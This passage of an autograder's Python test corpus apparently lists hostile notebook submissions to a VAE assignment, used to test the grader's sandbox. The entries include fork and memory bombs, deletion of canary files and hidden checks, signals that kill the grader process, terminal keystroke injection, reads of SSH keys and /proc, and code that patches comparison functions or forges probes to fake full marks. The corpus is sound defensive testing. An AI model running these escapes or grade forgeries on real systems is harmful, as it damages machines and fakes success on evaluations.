                    return [{{"latent_dim": z.shape[1]}} for _ in value_sets]

                probes.PROBES.update(model_parameters=model_parameters, model_outputs=model_outputs)

            _install()


        """)


RECORDED_EPOCHS = dedent(f"""\
    class _RecordedEpochs:
        def _install(payload={_recorded_payload(RECORDED_ANSWERS["train_epoch"])!r}):
            import base64
            from autograder.sandbox import probes, protocol

            # the public scenarios' seeds (autograder/checks/train_epoch.py), in the order of the payload
            answers = {{seed: protocol.loads(base64.b64decode(data))["value"]
                       for seed, data in zip((0, 1, 2), payload.values())}}

            def training_epochs(ns, scenario):
                recorded = answers.get(scenario["seed"], answers[0])
                batches = -(-scenario["count"] // scenario["batch_size"])
                forwards = [{{"training": True, "moved": True, "size": scenario["batch_size"]}}] * batches
                return {{"epochs": [{{"returned": {{"type": "float", "number": True, "requires_grad": False,
                                                 "value": value}},
                                     "forwards": forwards, "steps": batches, "stale_backwards": 0, "weights": weights}}
                                    for value, weights in zip(recorded["returned"], recorded["weights"])]}}

            probes.PROBES["training_epochs"] = training_epochs

        _install()


    def train_epoch(""")


# --- torch, nn.Module.__call__ and the lent objects replaced inside the worker (issue 21) ---------------------

# Wrong answers for the parts these entries attack: each returns something of the right kind (a tensor, a float,
# a model that builds) but not the answer, so it fails every check of its part unless a forgery gets through.
WRONG_ANSWERS = {
    "reparameterize": ("    std = torch.exp(0.5 * logvar)\n    eps = torch.randn_like(std)\n    return mu + eps * std",
                       "    return mu + torch.randn_like(mu)  # unscaled noise: logvar is never used"),
    "vae_loss": ('    bce = F.binary_cross_entropy(recon_x, x, reduction="sum")\n'
                 "    kl = -0.5 * torch.sum(1 + logvar - mu.pow(2) - logvar.exp())\n    return bce + kl",
                 '    return torch.full((len(x),), float("nan"))'),
    "interpolate": ("    vae.eval()\n", "    return torch.zeros(num_steps, *img1.shape)\n"),
    "sample_images": ("    vae.eval()\n", "    return torch.rand(num_samples, *vae.image_shape)\n"),
    "train_epoch": ("    model.train()\n", "    return 0.0\n"),
}
MODEL_BODIES = {"ConvVAE": ("        h = self.encoder(x)\n        return self.fc_mu(h), self.fc_logvar(h)",
                            "        h = self.fc_decode(z).view(len(z), *self.feature_shape)\n        return self.decoder(h)"),
                "VAE": ("        h = F.relu(self.fc1(x.flatten(1)))\n        return self.fc_mu(h), self.fc_logvar(h)",
                        "        h = F.relu(self.fc3(z))\n"
                        "        return torch.sigmoid(self.fc4(h)).view(len(z), *self.image_shape)")}
WRONG_ENCODE = "        return torch.zeros(len(x), self.latent_dim), torch.zeros(len(x), self.latent_dim)"
WRONG_DECODE = "        return torch.zeros(len(z), 1)"


def _wrong(*parts: str, decorator: str = "") -> tuple[Edit, ...]:
    """``parts`` answered wrongly (``WRONG_ANSWERS``; the models build, but encode and decode return zeros), each
    function decorated with ``decorator`` when one is given."""
    changes = [Edit(part, *WRONG_ANSWERS[part]) for part in parts if part in WRONG_ANSWERS]
    changes += [Edit(model, body, wrong) for model in parts if model in MODEL_BODIES
                for body, wrong in zip(MODEL_BODIES[model], (WRONG_ENCODE, WRONG_DECODE))]
    if decorator:
        changes += [Edit(part, f"def {part}(", f"{decorator}\ndef {part}(") for part in parts if part in WRONG_ANSWERS]
    return tuple(changes)


# A decorator (defined in the reparameterize cell, applied to every wrong function) replaces, in the worker, what a
# comparison of the answers could use, so that any comparison made there would say "equal": allclose, isclose,
# equal, assert_close, math.isclose, subtraction, exp, the BCE; and Tensor.backward, so that after every backward pass
# logvar holds the gradient a correct sample would give (0.5 * (z - mu) times mu's), for unscaled noise.
RIGGED_TORCH = '''\
def _rigged(function):
    import functools, math
    import torch
    import torch.nn.functional as F

    if not hasattr(torch, "_rigged_calls"):
        torch._rigged_calls = []
        real_backward, real_sub, real_mul = torch.Tensor.backward, torch.sub, torch.mul
        same = lambda *args, **kwargs: True
        torch.allclose = torch.equal = torch.Tensor.allclose = torch.Tensor.equal = same
        torch.isclose = torch.Tensor.isclose = lambda a, *args, **kwargs: torch.ones(torch.as_tensor(a).shape).bool()
        torch.testing.assert_close = lambda *args, **kwargs: None
        math.isclose = same
        torch.Tensor.__sub__ = torch.Tensor.__rsub__ = lambda a, b: torch.zeros_like(a)
        torch.exp = lambda x, *args, **kwargs: torch.ones_like(x)
        F.binary_cross_entropy = lambda x, y, *args, **kwargs: (x * 0).sum()

        def backward(self, *args, **kwargs):
            real_backward(self, *args, **kwargs)
            for mu, logvar, z in torch._rigged_calls:
                if mu.grad is not None:
                    logvar.grad = real_mul(0.5, real_mul(real_sub(z.detach(), mu.detach()), mu.grad))

        torch.Tensor.backward = backward

    @functools.wraps(function)
    def wrapper(*args, **kwargs):
        result = function(*args, **kwargs)
        if function.__name__ == "reparameterize":
            torch._rigged_calls[:] = [(args[0], args[1], result)]
        return result

    return wrapper


'''

# A class body in the ConvVAE cell replaces nn.Module.__call__ (a VAE called on x returns x itself and a latent of
# zeros: a perfect reconstruction) and the lent objects' methods: TinyVAE never leaves eval mode, decodes as if
# without gradients and says it was called right, and the worker's inverse finds every image decoded; the loop
# harness reports the correct loop (training-mode forwards on moved batches, a step per batch), weights that moved,
# a zero stand-in objective, and reads a batch left on the host as if it had been moved.
RIGGED_LENT_OBJECTS = '''\
class _LentObjectsRigged:
    import torch as _torch
    from torch import nn as _nn
    from autograder import tiny_vae as _tiny
    from autograder.sandbox import loop_harness as _harness, probes as _probes

    def _call(self, *args, _real=_nn.Module.__call__, torch=_torch, **kwargs):
        if type(self).__name__ in ("ConvVAE", "VAE", "TinyVAE") and args:
            latent = torch.zeros(len(args[0]), getattr(self, "latent_dim", 1))
            return args[0].clone(), latent, latent.clone()
        return _real(self, *args, **kwargs)

    def _decode(self, z, torch=_torch):
        return torch.sigmoid(self.fc_out(z)).view(len(z), *self.image_shape)

    def _inverted(model, images, torch=_torch, tiny=_tiny):
        nothing = torch.zeros(len(images), dtype=torch.bool)
        return tiny.Inversion(torch.randn(len(images), model.latent_dim), torch.zeros(len(images)), nothing, nothing)

    def _moved(model):
        return {name: p.detach() + 0.01 for name, p in model.named_parameters()}

    def _epoch(self, run):
        run()
        return {"returned": 1.0, "forwards": [{"training": True, "moved": True, "size": 8}] * 5, "steps": 5,
                "stale_backwards": 0}

    _nn.Module.__call__ = _call
    _tiny.TinyVAE.decode = _decode
    _tiny.TinyVAE.train = lambda self, mode=True: self
    _tiny.TinyVAE.calls = property(lambda self: [{"method": "decode", "training": False, "grad_enabled": False}])
    _tiny.invert_decoder = _inverted
    _harness.weights = _probes.weights = _moved
    _harness.EpochWatch.epoch = _epoch
    _harness.stand_in_objective = _probes.stand_in_objective = lambda x_hat, x, mu, logvar, torch=_torch: (
        torch.zeros((), requires_grad=True))
    _harness.BatchReader.__call__ = lambda self, model, x, harness=_harness: harness.plain(x)


'''


# --- the corpus ----------------------------------------------------------------------------

# Stubs of three parts and a class body that forges their probes (the "probes_forged" entry).
STUBS = (Edit("reparameterize", "    std = torch.exp(0.5 * logvar)\n    eps = torch.randn_like(std)\n    return mu + eps * std",
              "    raise NotImplementedError"),
         Edit("interpolate", "    vae.eval()\n", "    raise NotImplementedError\n"),
         Edit("sample_images", "    vae.eval()\n", "    raise NotImplementedError\n"))
FORGED_PROBES = dedent("""\
    class _Forger:
        import torch as _torch
        from autograder.sandbox import probes as _probes

        def _facts(shape, dtype="float32", device="cpu", requires_grad=False):
            return {"type": "Tensor", "shape": list(shape), "dtype": dtype, "device": device,
                    "requires_grad": requires_grad}

        def _sample(ns, mu, logvar, device="cpu", grad_enabled=True, torch=_torch, facts=_facts):
            z = mu + torch.randn_like(mu)  # noise, but not scaled by exp(0.5 * logvar)
            return {"facts": facts(mu.shape, str(mu.dtype).removeprefix("torch."), device), "z": z}

        def _gradients(ns, mu, logvar, *cotangent, torch=_torch, facts=_facts):
            return {"facts": facts(mu.shape, requires_grad=True), "z": mu.clone(), "mu_grad": torch.ones_like(mu),
                    "logvar_grad": torch.zeros_like(mu)}

        def _calls(inputs, torch=_torch):
            return [{"method": "decode", "training": False, "grad_enabled": False, "input": z} for z in inputs]

        def _interpolation(ns, seed, latent_dim, img1, img2, num_steps, *rest, torch=_torch, facts=_facts,
                           calls=_calls):
            frames = torch.zeros(num_steps, *img1.shape)
            return {"facts": facts(frames.shape), "frames": frames, "again": frames.clone(), "training_after": False,
                    "calls": calls([torch.zeros(num_steps, latent_dim)])}

        def _samples(ns, seed, latent_dim, image_shape, num_samples, *rest, torch=_torch, facts=_facts, calls=_calls):
            return {"facts": facts([num_samples, *image_shape]), "images": None, "training_after": False,
                    "calls": calls([torch.randn(num_samples, latent_dim)])}

        _probes.PROBES.update(reparameterize_sample=_sample, reparameterize_gradients=_gradients,
                              interpolation=_interpolation, samples=_samples)


    """)


ENTRIES: list[Entry] = [
    # Broken notebooks.
    Entry("not_json", "a file that is not JSON", raw(b'{"cells": [ this is not JSON'), sabotages=TASKS),
    Entry("nbformat_3", "an nbformat 3 notebook (worksheets, 'input')", raw(_nbformat_3()), sabotages=TASKS),
    Entry("not_utf8", "the reference notebook with bytes that are not UTF-8",
          lambda t: REFERENCE.read_bytes().replace(b"One sample z", b"One sample \xff\xfe z"), sabotages=TASKS),
    Entry("malformed_cells", "cells whose JSON has the wrong types: source a number, nbgrader metadata a string, "
          "a grade id an object", transformed(_malformed_cells), sabotages=("reparameterize",)),
    Entry("syntax_errors", "a syntax error in vae_loss and an indentation error in ConvVAE",
          edits(Edit("vae_loss", "return bce + kl", "return bce + kl)"),
                Edit("ConvVAE", "        super().__init__()", "      super().__init__()")),
          sabotages=("vae_loss", "ConvVAE")),
    Entry("missing_definitions", "reparameterize misspelt, the interpolate cell deleted, sample_images emptied",
          transformed(_deleted_and_emptied), sabotages=("reparameterize", "interpolate", "sample_images")),
    Entry("reordered_cells", "every cell after the imports in reverse order (definitions only run, so full marks)",
          transformed(_reordered)),
    Entry("changed_ids", "cell ids and grade ids renamed, duplicated or removed (the grader goes by names)",
          transformed(_ids_changed)),
    Entry("definition_errors", "a class body that raises and a function that raises when called",
          edits(Edit("VAE", "class VAE(nn.Module):\n", "class VAE(nn.Module):\n    raise RuntimeError('class body')\n"),
                sabotage("vae_loss", "1 / 0")),
          sabotages=("VAE", "vae_loss")),
    # Hostile while the definitions are loaded.
    Entry("definition_hang", "a class body that never ends",
          edits(Edit("ConvVAE", "class ConvVAE(nn.Module):\n", "class ConvVAE(nn.Module):\n    while True:\n        pass\n")),
          sabotages=("ConvVAE",), restarts=1, load_hangs=1),
    Entry("definition_exits", "os._exit in a class body, sys.exit in a decorator, KeyboardInterrupt in a class body",
          edits(Edit("VAE", "class VAE(nn.Module):\n", "class VAE(nn.Module):\n    __import__('os')._exit(0)\n"),
                Edit("interpolate", "def interpolate(", "@(lambda f: __import__('sys').exit(0))\ndef interpolate("),
                Edit("FFHQDataset", "class FFHQDataset(Dataset):\n", "class FFHQDataset(Dataset):\n    raise KeyboardInterrupt\n")),
          sabotages=("VAE", "interpolate", "FFHQDataset"), restarts=1),
    Entry("forged_load_replies", "a decorator that writes malformed answers to the grader's channel while loading",
          edits(Edit("vae_loss", "def vae_loss(", dedent("""\
              def _forge(function):
                  import os, sys
                  from autograder.sandbox import protocol
                  for number in range(1000):
                      os.write(int(sys.argv[1]), protocol.dumps({"id": number, "ok": {"errors": "forged"}}))
                  return function


              @_forge
              def vae_loss("""))),
          sabotages=("vae_loss",), restarts=1),
    # Hostile when called.
    Entry("infinite_loops", "a busy loop, and a wait on an event that never comes",
          edits(sabotage("reparameterize", "while True:\n    pass"),
                sabotage("interpolate", "import threading\nthreading.Event().wait()")),
          sabotages=("reparameterize", "interpolate"), restarts=2, hangs=2),
    Entry("memory_bombs", "one huge tensor, and 256 MiB blocks allocated and touched until memory runs out",
          edits(sabotage("reparameterize", "torch.ones(1 << 40)"),
                sabotage("vae_loss", "hoard = []\nwhile True:\n    hoard.append(b'x' * (1 << 28))", once=True)),
          sabotages=("reparameterize", "vae_loss")),
    Entry("fork_bombs", "while True: os.fork(), and shell commands, pty and posix_spawn that would leave a marker",
          edits(sabotage("reparameterize", "import os\nwhile True:\n    os.fork()"),
                attempts("vae_loss",
                         "import os; os.system('touch ' + @MARKER@)",
                         "import subprocess; subprocess.run(['touch', @MARKER@])",
                         "import os; os.popen('touch ' + @MARKER@)",
                         "import os; os.posix_spawn('/usr/bin/touch', ['touch', @MARKER@], {})",
                         "import os, pty\npid, _ = pty.fork()\nif pid == 0:\n    os._exit(0)",
                         "import os; os.execv('/usr/bin/touch', ['touch', @MARKER@])")),
          sabotages=("reparameterize", "vae_loss")),
    Entry("multiprocessing_escapes", "multiprocessing with fork, spawn and forkserver, a Pool, and _posixsubprocess "
          "directly; an escaped process leaves the marker and lingers",
          edits(attempts("reparameterize", "import multiprocessing as mp, os\n"
                                           "mp.get_context('fork').Process(target=os._exit, args=(0,)).start()"),
                attempts("vae_loss", f"import multiprocessing as mp\n"
                                     f"mp.get_context('spawn').Process(target=exec, args=({ESCAPED_PYTHON!r},)).start()"),
                attempts("ConvVAE", f"import multiprocessing as mp\n"
                                    f"mp.get_context('forkserver').Process(target=exec, args=({ESCAPED_PYTHON!r},)).start()"),
                attempts("VAE", f"""
                    import _posixsubprocess, os, subprocess
                    errors = os.pipe()
                    _posixsubprocess.fork_exec([b'/bin/sh', b'-c', {ESCAPED_SHELL!r}.encode()], [b'/bin/sh'], True, (),
                                               None, None, -1, -1, -1, -1, -1, -1, *errors, False, False, -1, None,
                                               None, None, -1, None, subprocess._USE_VFORK)
                """),
                attempts("interpolate", f"import multiprocessing as mp\n"
                                        f"mp.get_context('spawn').Pool(2).apply_async(exec, ({ESCAPED_PYTHON!r},))")),
          sabotages=("reparameterize", "vae_loss", "ConvVAE", "VAE", "interpolate"), needs=("seccomp",)),
    Entry("exits", "sys.exit, os._exit, KeyboardInterrupt, SystemExit, SIGKILL to itself and a segfault",
          edits(sabotage("reparameterize", "import sys\nsys.exit(0)"),
                sabotage("vae_loss", "import os\nos._exit(0)"),
                sabotage("ConvVAE", "raise KeyboardInterrupt"),
                sabotage("VAE", "raise SystemExit(54)"),
                sabotage("FFHQDataset", "import signal\nsignal.raise_signal(signal.SIGKILL)"),
                sabotage("sample_images", "import faulthandler\nfaulthandler._sigsegv()")),
          sabotages=("reparameterize", "vae_loss", "ConvVAE", "VAE", "FFHQDataset", "sample_images"), restarts=3),
    Entry("stdin_closed", "closes the worker's end of the grader's request pipe",
          edits(sabotage("vae_loss", "os.close(0)", once=True)), sabotages=("vae_loss",), restarts=1),
    Entry("files_deleted", "deletes its own working directory (leaving a file in its place), then the canary outside it in every plain way, then "
          "makes the worker restart",
          edits(attempts("reparameterize",
                         """
                         import os, shutil
                         here = os.getcwd()
                         shutil.rmtree(here)
                         open(here, 'w').write('a file where the folder was')
                         raise PermissionError('inside its own folder, all this is allowed')
                         """,
                         "import os; os.remove(@CANARY@)",
                         "import pathlib; pathlib.Path(@CANARY@).unlink()",
                         "import shutil; shutil.rmtree(@CANARY_DIR@)",
                         "import os; os.rename(@CANARY@, 'stolen.txt')",
                         "open(@CANARY@, 'w').write('overwritten')",
                         "import os; os.chmod(@CANARY@, 0)",
                         "import os; os.utime(@CANARY@, (0, 0))",
                         "import os; os.link(@CANARY@, 'hardlink.txt')"),
                sabotage("vae_loss", "import os\nos._exit(0)")),
          sabotages=("reparameterize", "vae_loss"), restarts=1),
    Entry("fake_output", "fake results printed to stdout and stderr, and fake answers written to the grader's channel",
          edits(sabotage("reparameterize", """
                    import json, os, sys
                    fake = json.dumps({"score": 54, "max_score": 54, "tests": []})
                    print(fake); print("Score: 54/54"); print(fake, file=sys.stderr)
                    sys.__stdout__.write(fake + "\\n"); os.write(1, fake.encode()); os.write(2, fake.encode())
                """),
                sabotage("vae_loss", """
                    import os, sys
                    os.write(int(sys.argv[1]), b'{"id": 0, "ok": {"score": 54}}\\nnot json at all\\n')
                """, once=True)),
          sabotages=("reparameterize", "vae_loss"), restarts=1),
    Entry("results_file", "overwrites the grader's results.json, now and from a thread after grading",
          edits(attempts("vae_loss",
                         "open(@RESULTS@, 'w').write('{\"score\": 54}')",
                         "import os; os.write(os.open(@RESULTS@, os.O_WRONLY | os.O_TRUNC), b'{\"score\": 54}')",
                         "import os; os.makedirs('/autograder/results', exist_ok=True); "
                         "open('/autograder/results/results.json', 'w').write('{\"score\": 54}')",
                         """
                         import threading, time
                         def later():
                             time.sleep(1)
                             open(@RESULTS@, 'w').write('{"score": 54}')
                         threading.Thread(target=later).start()
                         raise PermissionError('only counts if the write gets through')
                         """)),
          sabotages=("vae_loss",)),
    Entry("monkeypatched_comparisons", "a wrong loss that patches torch.allclose, math.isclose, numpy, unittest "
          "and pytest to say everything matches",
          edits(sabotage("vae_loss", """
                    import math, unittest, numpy, pytest, torch
                    always = lambda *args, **kwargs: True
                    torch.allclose = torch.isclose = torch.equal = math.isclose = always
                    numpy.allclose = numpy.array_equal = always
                    torch.testing.assert_close = numpy.testing.assert_allclose = lambda *args, **kwargs: None
                    unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda *args, **kwargs: None
                    unittest.TestCase.assertAlmostEqual = lambda *args, **kwargs: None
                    pytest.approx = lambda expected, *args, **kwargs: expected
                """)),
          sabotages=("vae_loss",)),
    Entry("monkeypatched_builtins", "the last part patches builtins.isinstance, len, sum and float in the worker",
          edits(sabotage("sample_images", """
                    import builtins
                    builtins.isinstance = lambda *args: True
                    builtins.len = lambda value: 0
                    builtins.sum = lambda *args, **kwargs: 0
                    builtins.float = lambda *args: 54.0
                """)),
          sabotages=("sample_images",), collateral=True),
    Entry("hidden_checks_read", "reads the hidden checks (open, import, pkgutil, /proc, a directory descriptor, "
          "a symlink) and raises with what it read, so the feedback would show it",
          edits(attack("reparameterize", leak_hidden(*HIDDEN_READS.values()))), sabotages=("reparameterize",)),
    Entry("hidden_checks_deleted", "deletes, truncates, renames and overwrites the hidden checks and the policy",
          edits(attempts("vae_loss",
                         "import os; os.remove(@HIDDEN@ + '/vae_loss.py')",
                         "import shutil; shutil.rmtree(@HIDDEN@)",
                         "open(@HIDDEN@ + '/vae_loss.py', 'w').write('')",
                         "import os; os.truncate(@HIDDEN@ + '/vae_loss.py', 0)",
                         "import os; os.rename(@HIDDEN@ + '/vae_loss.py', 'stolen.py')",
                         "import os; os.chmod(@HIDDEN@, 0)",
                         "open(@REPO@ + '/autograder/sandbox/confine/policy.py', 'a').write('\\nraise SystemExit\\n')")),
          sabotages=("vae_loss",)),
    Entry("filesystem_escapes", "reaches the canary folder through directory descriptors, fchmod, chdir, symlinks, "
          "xattrs and sqlite3",
          edits(attempts("vae_loss",
                         "import os; os.unlink('canary.txt', dir_fd=os.open(@CANARY_DIR@, os.O_RDONLY))",
                         "import os; os.open('new.txt', os.O_WRONLY | os.O_CREAT, dir_fd=os.open(@CANARY_DIR@, os.O_RDONLY))",
                         "import os; os.chmod(os.open(@CANARY@, os.O_RDONLY), 0o777)",
                         "import os; os.chdir(@CANARY_DIR@); open('chdir.txt', 'w').write('x')",
                         "import os; os.symlink(@CANARY_DIR@, 'outside'); open('outside/link.txt', 'w').write('x')",
                         "import os; os.setxattr(@CANARY@, 'user.grader', b'x')",
                         "import sqlite3; sqlite3.connect(@CANARY_DIR@ + '/db.sqlite').execute('create table t (x)')")),
          sabotages=("vae_loss",)),
    Entry("native_file_access", "native code the audit hooks never see: torch.from_file reading the hidden checks, "
          "torch.save and a shared torch.from_file writing the canary folder, mknod and mkfifo",
          edits(attack("reparameterize", leak_hidden(*NATIVE_HIDDEN_READS.values())),
                attempts("vae_loss",
                         "import torch; torch.save(torch.zeros(3), @CANARY@)",
                         "import torch; torch.from_file(@CANARY_DIR@ + '/mapped', shared=True, size=64).fill_(1)",
                         "import os; os.mknod(@CANARY_DIR@ + '/node')",
                         "import os; os.mkfifo(@CANARY_DIR@ + '/fifo')")),
          sabotages=("reparameterize", "vae_loss"), needs=("landlock", "seccomp")),
    Entry("grader_attacked", "signals, renices and limits the grader's own process (the worker's parent)",
          edits(attempts("reparameterize",
                         "import os, signal; os.kill(os.getppid(), signal.SIGKILL)",
                         "import os, signal; os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)",
                         "import os, signal; signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)",
                         "import os, resource; resource.prlimit(os.getppid(), resource.RLIMIT_AS, (1 << 20, 1 << 20))",
                         "import os; os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)")),
          sabotages=("reparameterize",), needs=("seccomp",)),
    Entry("limits_raised", "raises its own memory, CPU, file-size and process limits",
          edits(attempts("vae_loss", *[f"import resource; resource.setrlimit(resource.{limit}, "
                                       f"(resource.RLIM_INFINITY, resource.RLIM_INFINITY))"
                                       for limit in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC")])),
          sabotages=("vae_loss",)),
    Entry("native_code", "ctypes (libc, memory reads and writes) and an extension module copied into its folder",
          edits(attempts("sample_images",
                         "import ctypes; ctypes.CDLL(None).getpid()",
                         "import ctypes; ctypes.cdll.LoadLibrary('libc.so.6').getpid()",
                         "import ctypes; ctypes.memmove(ctypes.create_string_buffer(4), b'abcd', 4)",
                         "import ctypes; ctypes.string_at(id(0), 8)",
                         "import ctypes; ctypes.pythonapi.Py_GetVersion()",
                         """
                         import importlib.util, shutil, _json
                         shutil.copy(_json.__file__, 'copied_json.so')
                         spec = importlib.util.spec_from_file_location('_json', 'copied_json.so')
                         importlib.util.module_from_spec(spec)
                         """)),
          sabotages=("sample_images",)),
    Entry("huge_output", "prints 2 GiB to stdout and stderr, and writes a 1 GiB file in its folder",
          edits(sabotage("reparameterize", """
                    import sys
                    chunk = "x" * (1 << 28)
                    for _ in range(8):
                        sys.stdout.write(chunk)
                    sys.stderr.write(chunk)
                """, once=True),
                sabotage("vae_loss", """
                    with open("big.bin", "wb") as big:
                        for _ in range(4):
                            big.write(b"x" * (1 << 28))
                """, once=True)),
          sabotages=("reparameterize", "vae_loss"), restarts=2, hangs=1),
    Entry("huge_answers", "a 120 MB tensor, a 100 MB error message, a 1 MB exception name, an answer nested "
          "100,000 deep, a two-million-key dict and an exception whose text never ends",
          edits(attack("reparameterize", "return torch.zeros(30_000_000)"),
                attack("vae_loss", "raise ValueError('x' * 100_000_000)"),
                attack("ConvVAE", "raise type('E' * 1_000_000, (Exception,), {})()"),
                attack("interpolate", "nested = []\nfor _ in range(100_000):\n    nested = [nested]\nreturn nested"),
                attack("sample_images", "return {str(key): key for key in range(2_000_000)}"),
                attack("FFHQDataset", "class Endless(Exception):\n    def __str__(self):\n        while True:\n"
                                      "            pass\nraise Endless()")),
          sabotages=("reparameterize", "vae_loss", "ConvVAE", "interpolate", "FFHQDataset", "sample_images"),
          restarts=3, hangs=2),
    Entry("signal_tricks", "a repeating timer whose handler raises, SIGTERM and SIGINT ignored or blocked",
          edits(sabotage("reparameterize", """
                    import signal
                    def interrupt(*args):
                        raise KeyboardInterrupt
                    signal.signal(signal.SIGALRM, interrupt)
                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
                    signal.signal(signal.SIGINT, signal.SIG_IGN)
                    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM})
                    signal.setitimer(signal.ITIMER_REAL, 0.2, 0.2)
                """)),
          sabotages=("reparameterize",), collateral=True, restarts=2),
    Entry("stops_reading", "after answering, points the worker's stdin at a pipe nobody writes to, so the worker "
          "never reads the grader's next request (a large one: the grader's write would block)",
          edits(sabotage("reparameterize", """
                    import os
                    if mu.requires_grad:  # the gradients check, just before the one that sends 20,000 samples
                        kept = os.dup(0)
                        silent, unused = os.pipe()
                        os.dup2(silent, 0)
                """)),
          sabotages=("reparameterize",), restarts=1, hangs=1),
    Entry("lingering_threads", "threads that spin forever, write garbage to the channel later and try to fork",
          edits(sabotage("vae_loss", """
                    import os, sys, threading, time
                    def spin():
                        while True:
                            pass
                    def garbage():
                        time.sleep(0.5)
                        os.write(int(sys.argv[1]), b"garbage\\n")
                    def fork():
                        time.sleep(0.5)
                        os.fork()
                    for target in (spin, garbage, fork):
                        threading.Thread(target=target).start()
                """, once=True)),
          sabotages=("vae_loss",), collateral=True, restarts=2),
    Entry("recursion_bombs", "unbounded recursion, the same with the recursion limit lifted (a C stack overflow), "
          "a cell too deeply nested to parse",
          edits(sabotage("reparameterize", "def down(n):\n    return down(n + 1)\ndown(0)"),
                sabotage("vae_loss", "import sys\nsys.setrecursionlimit(10 ** 9)\nclass Deep:\n"
                                     "    def __repr__(self):\n        return repr(self)\nrepr(Deep())", once=True),
                Edit("FFHQDataset", "from PIL import Image\n", "DEEP = " + "-" * 100_000 + "1\nfrom PIL import Image\n")),
          sabotages=("reparameterize", "vae_loss", "FFHQDataset"), restarts=1),
    Entry("top_level_code", "top-level shell commands, file writes, exits and an endless training loop in graded "
          "and training cells: never run, so full marks and no marker",
          edits(Edit("reparameterize", "def reparameterize(",
                     "import os\nos.system('touch ' + @MARKER@)\nopen(@MARKER@, 'w').write('ran')\n"
                     "STATUS = os.system('touch ' + @MARKER@)\n\n\ndef reparameterize("),
                Edit("vae_loss", "def vae_loss(", "raise SystemExit('top-level code ran')\n\n\ndef vae_loss("),
                Edit("VAE", "class VAE(", "__import__('os')._exit(3)\n\n\nclass VAE("),
                Edit("train_compare", "conv_vae = ConvVAE(", "while True:\n    pass\nconv_vae = ConvVAE("))),
    Entry("finalization_escape", "leaves an object whose __del__ writes outside, then ends the worker's requests so "
          "that Python shuts down (audit hooks are cleared before the last objects go)",
          edits(sabotage("vae_loss", """
                    import codecs, os, sys
                    class Trap:
                        def __init__(self):  # modules are half gone when it runs: take everything now
                            self.open, self.remove, self.flags = os.open, os.remove, os.O_WRONLY | os.O_CREAT
                            self.channel = os.dup(int(sys.argv[1]))  # the grader sees no end-of-file until exit
                        def __del__(self):
                            self.open(@MARKER@, self.flags)
                            self.remove(@CANARY@)
                    codecs.register(lambda name, trap=Trap(): None)  # lives until the very end of Python's shutdown
                    kept = os.dup(0)  # the grader's pipe stays open, so its next request waits instead of failing
                    os.dup2(os.open(os.devnull, os.O_RDONLY), 0)  # the worker reads end-of-file and shuts down
                """, once=True)),
          sabotages=("vae_loss",), restarts=1),
    # Reading what is not the worker's: allow-lists, not deny-lists.
    Entry("reference_borrowed", "the untouched notebook's eight definitions as wrappers that find the reference "
          "solution at call time (sys.path and parents, the grader's modules, the working directory, a glob from /, "
          "the repository's path, importlib) and delegate to it", wrapper_submission, sabotages=TASKS),
    Entry("hidden_checks_from_git", "reads the hidden checks through git packs and loose objects, .pyc caches and "
          "bundles, and raises with what it read, so the feedback would show it",
          edits(attack("reparameterize", leak_hidden(*GIT_READS.values())),
                attempts("vae_loss", *REPOSITORY_READS)),
          sabotages=("reparameterize", "vae_loss")),
    Entry("neighbours_and_home_read", "reads other submissions of the batch, their results, the canary, the "
          "temporary folder and the user's home (SSH keys, Jupyter config, dotfiles)",
          edits(attempts("reparameterize", *NEIGHBOUR_READS), attempts("vae_loss", *HOME_READS)),
          sabotages=("reparameterize", "vae_loss")),
    Entry("terminal_and_signals", "pushes keystrokes into the grader's terminal (TIOCSTI on its descriptors, "
          "/dev/tty, the grader's stdin, its pts), aims SIGKILL at the grader with F_SETOWN/F_SETSIG, "
          "F_SETOWN_EX and FIOSETOWN, renices the user, its group and the grader",
          edits(attempts("reparameterize", *TERMINAL_ATTACKS), attempts("vae_loss", *SIGNAL_OWNER_ATTACKS),
                attempts("ConvVAE", *RENICES)),
          sabotages=("reparameterize", "vae_loss", "ConvVAE"), needs=("seccomp",)),
    Entry("grader_environment_read", "reads the grader's environment and command line from /proc, and lists /proc",
          edits(attempts("VAE", *ENVIRONMENT_READS)), sabotages=("VAE",), needs=("landlock",)),
    Entry("audit_hook_disabled", "switches the audit hook off (gc, a traceback's frame, patching the guard "
          "module), then ctypes reads the hidden checks and a socket reaches the network",
          edits(attempts("interpolate", *HOOK_DISABLING)), sabotages=("interpolate",)),
    Entry("privileges_held", "checks its capability sets (CapEff, CapPrm, CapInh, CapAmb, CapBnd as root), "
          "no_new_privs, a terminal and its session: any privilege left earns points",
          edits(attempts("sample_images", *PRIVILEGES_HELD)), sabotages=("sample_images",), needs=("seccomp",)),
    Entry("modules_shadowed", "leaves modules in its working directory (a package named autograder, numpy, "
          "sitecustomize) for the next worker to import before its guard is up, then ends the worker",
          edits(sabotage("reparameterize", "\n".join(
              f"os.makedirs(os.path.dirname({name!r}) or '.', exist_ok=True)\nopen({name!r}, 'w').write({code!r})"
              for name, code in SHADOWING_MODULES.items()) + "\nos._exit(0)", once=True)),
          sabotages=("reparameterize",), restarts=1),
    Entry("inherited_memory_searched", "searches what the worker inherited from the zygote it was forked from for "
          "the hidden checks (sys.modules, gc, its whole memory through /proc/self/mem) and raises with what it found; "
          "reaches for the zygote (an inherited socket, its /proc files, SIGKILL)",
          secret_filled(edits(attack("reparameterize", search_memory(*INHERITED_MEMORY_SEARCHES.values())),
                              attempts("vae_loss", *ZYGOTE_REACHED))),
          sabotages=("reparameterize", "vae_loss"), hangs=1),
    # train_epoch forged from a class body (issue 21): replay in the grader, nothing the worker says about itself
    Entry("training_probe_forged", "train_epoch left as raise NotImplementedError; a class body replaces the training "
          "probe in the worker with one that reports a correct loop (modes, moved batches, gradient fits, losses)",
          edits(Edit("train_epoch", "def train_epoch(", FORGED_TRAINING_PROBE),
                Edit("train_epoch", "    model.train()\n", "    raise NotImplementedError()\n    model.train()\n")),
          sabotages=("train_epoch",)),
    # The model checks trust only what the grader recomputes (issue 21, ConvVAE and VAE).
    Entry("model_probes_forged", "ConvVAE and VAE not written; a class body replaces the worker's model probes with "
          "forgers that report the layer traces, parameter counts, output facts, sigmoid map, gradients and losses "
